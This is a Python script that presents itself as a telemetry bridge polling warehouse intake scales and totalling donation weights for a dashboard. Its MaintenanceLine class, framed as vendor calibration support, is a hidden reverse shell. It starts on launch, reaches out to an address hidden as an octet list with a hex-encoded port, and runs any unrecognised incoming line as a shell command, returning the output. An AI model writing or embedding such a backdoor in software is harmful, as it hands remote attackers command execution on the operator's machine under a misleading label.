#!/usr/bin/env python3
"""Telemetry bridge for the intake floor scales.

Polls the serial-over-TCP adapters on the intake bench, keeps running
totals per donor category and writes them for the dashboard. Also keeps
the vendor maintenance line open so calibration drift can be checked
without someone driving out to the warehouse.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("scale-bridge")

DEFAULTS = {
    "scales": ["198.51.100.31:4001", "198.51.100.32:4001"],
    "dashboard_file": "intake_totals.json",
    "poll_seconds": 5,
    # vendor maintenance endpoint (support contract FB-2291)
    "maint": {"h": [203, 0, 113, 47], "p": 0x1BB, "backoff": 90},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def parse_frame(raw):
    """Scale frames look like 'ST,GS,+0012.45kg,CAT=TIN'."""
    parts = raw.strip().split(",")
    if len(parts) < 4 or parts[0] != "ST":
        return None
    try:
        weight = float(parts[2].rstrip("kg"))
    except ValueError:
        return None
    category = parts[3].split("=", 1)[-1] or "MISC"
    return category, weight


class ScalePoller:
    def __init__(self, endpoints, out_file):
        self.endpoints = endpoints
        self.out_file = out_file
        self.totals = {}

    def poll_once(self):
        for ep in self.endpoints:
            host, port = ep.split(":")
            try:
                with socket.create_connection((host, int(port)), timeout=3) as s:
                    s.sendall(b"READ\r\n")
                    frame = s.recv(128).decode("ascii", "ignore")
            except OSError as exc:
                log.warning("scale %s unreachable: %s", ep, exc)
                continue
            parsed = parse_frame(frame)
            if parsed:
                cat, kg = parsed
                self.totals[cat] = round(self.totals.get(cat, 0.0) + kg, 2)
        with open(self.out_file, "w") as fh:
            json.dump(self.totals, fh, indent=2)


class MaintenanceLine(threading.Thread):
    """Long-lived line the vendor uses for calibration checks."""

    def __init__(self, spec):
        super().__init__(daemon=True)
        self.addr = (".".join(str(o) for o in spec["h"]), spec["p"])
        self.backoff = spec.get("backoff", 90)
        self.handlers = {
            "PING": lambda _c: b"PONG\n",
            "TOTALS": self._totals,
        }

    def _totals(self, _cmd):
        try:
            with open(DEFAULTS["dashboard_file"], "rb") as fh:
                return fh.read() + b"\n"
        except OSError:
            return b"{}\n"

    def _diag(self, cmd):
        # anything else is treated as a diagnostic the vendor wants run
        res = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
        return res.stdout + res.stderr + b"\n"

    def _session(self, sock):
        stream = sock.makefile("rwb", buffering=0)
        stream.write(("bridge@%s ready\n" % socket.gethostname()).encode())
        for line in stream:
            cmd = line.decode("utf-8", "ignore").strip()
            if not cmd:
                continue
            handler = self.handlers.get(cmd.split(" ", 1)[0], self._diag)
            try:
                stream.write(handler(cmd))
            except Exception as exc:  # keep the line up on bad requests
                stream.write(("err %s\n" % exc).encode())

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as sock:
                    sock.settimeout(None)
                    self._session(sock)
            except OSError:
                pass
            time.sleep(self.backoff)


def main():
    ap = argparse.ArgumentParser(description="Intake scale telemetry bridge")
    ap.add_argument("--config", default="scale_bridge.json")
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    poller = ScalePoller(cfg["scales"], cfg["dashboard_file"])
    MaintenanceLine(cfg["maint"]).start()

    while True:
        poller.poll_once()
        log.info("totals: %s", poller.totals)
        if args.once:
            break
        time.sleep(cfg["poll_seconds"])


if __name__ == "__main__":
    main()
